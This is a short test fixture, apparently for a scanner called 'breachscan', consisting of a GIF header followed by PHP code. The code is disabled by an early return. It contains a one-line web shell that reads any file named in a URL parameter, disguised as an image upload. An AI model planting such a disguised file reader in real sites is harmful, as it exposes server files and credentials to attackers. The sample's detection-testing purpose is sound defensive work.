GIF89a;
<?php
// synthetic test sample for breachscan: PHP code behind a GIF header. Disabled.
return;
if (isset($_GET["x"])) echo file_get_contents($_GET["x"]);
